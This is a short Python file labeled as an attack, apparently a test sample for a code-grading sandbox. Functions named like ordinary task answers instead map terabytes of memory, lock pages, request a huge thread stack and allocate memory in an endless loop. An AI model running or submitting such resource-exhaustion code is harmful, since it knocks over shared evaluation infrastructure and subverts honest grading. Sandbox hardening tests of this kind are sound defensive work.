# Attack: maps terabytes, locks pages, grows its stack.
# score: 0
# outcomes: failed, error, timed_out, memory_exceeded
# ruff: noqa

import ctypes
import mmap
import threading

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p


def double(x):
    sizes = 0
    for flags in (0x22, 0x4022, 0x21, 0x122, 0x40022):  # private, no reserve, shared, grows down, huge pages
        for power in (45, 40, 35, 32):
            at = libc.mmap(None, ctypes.c_size_t(1 << power), 3, flags, -1, 0)
            if at not in (None, ctypes.c_void_p(-1).value):
                sizes += 1 << power
    libc.mlockall(3)
    return 2 * x if sizes else None


def minimize(start, learning_rate=0.1, num_iterations=10):
    threading.stack_size(1 << 40)
    threading.Thread(target=print).start()


def make_model():
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 1 << 20))
        kept[-1][:] = b"x" * (1 << 20)
